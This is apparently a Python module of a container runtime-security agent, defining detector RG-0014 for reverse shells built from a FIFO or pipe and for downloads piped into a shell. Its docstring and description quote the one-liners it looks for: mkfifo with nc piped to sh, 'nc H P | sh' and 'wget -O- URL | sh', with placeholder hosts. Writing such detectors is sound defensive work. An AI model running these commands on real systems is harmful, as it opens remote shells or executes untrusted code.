# SPDX-License-Identifier: Apache-2.0
"""RG-0014: a shell whose stdin is a pipe fed by a network process (FIFO or pipe reverse shell).

``mkfifo /tmp/f; nc H P < /tmp/f | sh > /tmp/f 2>&1`` and ``nc H P | sh`` give the shell no
socket at all (RG-0005 sees none): its stdin is a pipe whose writer is netcat. The pair comes
from ``agent.detectors.pipes`` (siblings of one pipeline, linked by their stdio when the source
read it). The feeder is a network process when it is a relay by name (``netcat_names``,
``network_relays``, ``openssl s_client``: critical at its exec, connected or not) or when it
connected or accepted a connection (``NetConnect``): a downloader piped into a shell
(``wget -O- URL | sh``) is reported at high severity.
"""

from __future__ import annotations

from agent.detectors.activity import RecentExec, activity
from agent.detectors.pipes import Pair, finish, pairs_at_exec, reader_siblings
from agent.detectors.spec import Detector, DetectorState, container_key, derived, name_set
from agent.events import NetConnect, ProcessExec
from agent.findings import Finding, Severity
from agent.settings.detectors import DetectorsSettings


def _relay_names(s: DetectorsSettings) -> frozenset[str]:
    return name_set(s.netcat_names) | name_set(s.network_relays)


def _is_relay(rec: RecentExec, state: DetectorState) -> bool:
    s = state.settings
    relays = derived(s, "pipe_relays", _relay_names)
    if rec.program in relays:
        return True
    return rec.program == "openssl" and "s_client" in rec.args


def _finding(ev: ProcessExec | NetConnect, pair: Pair, state: DetectorState) -> Finding:
    act = activity(state)
    reader, feeder = pair.reader, pair.feeder
    conn = act.connection_of(feeder.container, feeder.pid)
    relay = _is_relay(feeder, state)
    why = "a network relay" if relay else "a process with a network connection"
    peer = f" to {conn[2]}" if conn is not None else ""
    return SPEC.finding(
        ev,
        f"shell {reader.program} reads its stdin from {feeder.program}{peer}, {why} ({pair.how})",
        {
            **pair.evidence("feeder"),
            "relay": relay,
            "connection": {"op": conn[1], "peer": conn[2]} if conn is not None else None,
        },
        subject=f"pipe-shell:{reader.pid}",
        severity=Severity.CRITICAL if relay else Severity.HIGH,
        mitre="T1059.004" if relay else "T1105",
    )


def _is_feeder(rec: RecentExec, state: DetectorState) -> bool:
    return _is_relay(rec, state) or activity(state).connection_of(rec.container, rec.pid) is not None


def evaluate(ev: ProcessExec | NetConnect, state: DetectorState) -> Finding | None:
    act = activity(state)
    if isinstance(ev, ProcessExec):
        pairs = pairs_at_exec(ev, state, SPEC.id, _is_feeder, both_ways=True)
    else:
        if not act.observe_connect(ev):
            return None
        feeder = act.exec_of(container_key(ev), ev.pid)
        if feeder is None:
            return None
        readers = reader_siblings(feeder, state)
        if not readers:
            return None
        pairs = finish(state, SPEC.id, [(r, feeder) for r in readers], both_ways=True)
    return _finding(ev, pairs[0], state) if pairs else None


SPEC = Detector(
    id="RG-0014",
    name="pipe_reverse_shell",
    events=(ProcessExec, NetConnect),
    severity=Severity.CRITICAL,
    mitre="T1059.004",
    description="A shell that reads its commands from a pipe fed by netcat/socat/telnet/openssl "
    "s_client or by a process holding a connection: the FIFO or pipe reverse shell "
    "(mkfifo /tmp/f; nc H P </tmp/f | sh >/tmp/f) and `nc H P | sh`; a downloader piped into a "
    "shell (wget -O- URL | sh) at high severity (T1105).",
    false_positives="Allowed by default: nc/wget/curl used without a shell reading their output, a "
    "shell reading a terminal, a file or a script, and processes exec'd by the same parent more than "
    "detectors.pipe_pair_seconds apart. Learned: nothing (an `always` rule). Tuned: "
    "detectors.network_relays, detectors.pipe_pair_seconds; an image that pipes a download into a "
    "shell at run time (curl URL | sh in an entrypoint, high) should build it in, or disable RG-0014.",
    evaluate=evaluate,
    # Learned exec pairs (sh>nc, sh>rm) say nothing about this shape: never lowered by them.
    always=True,
)
